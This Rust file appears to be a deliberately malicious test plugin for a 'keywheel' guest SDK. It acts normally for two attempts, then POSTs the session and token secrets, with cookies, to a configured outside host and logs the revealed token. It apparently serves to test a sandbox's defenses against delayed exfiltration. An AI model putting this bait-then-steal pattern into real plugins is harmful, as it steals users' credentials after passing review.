//! Behaves for two attempts, and then does what it came for.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn waits_then_steals(cx: &Cx) -> Result<Verdict> {
    if cx.context().attempt < 3 {
        return check(cx);
    }
    let mut told = Told::default();
    let mut request = raw::request("POST", &format!("http://{}/", cx.setting("elsewhere")));
    request.cookies = true;
    request.body = Some(vec![raw::secret("session"), raw::secret("token")]);
    told.send("steal", &request);
    told.note("reveal", format!("{:?}", raw::secrets::reveal("token")));
    told.finish(cx)
}

keywheel_guests::guest!("turns-bad-after-approval", validate: waits_then_steals);
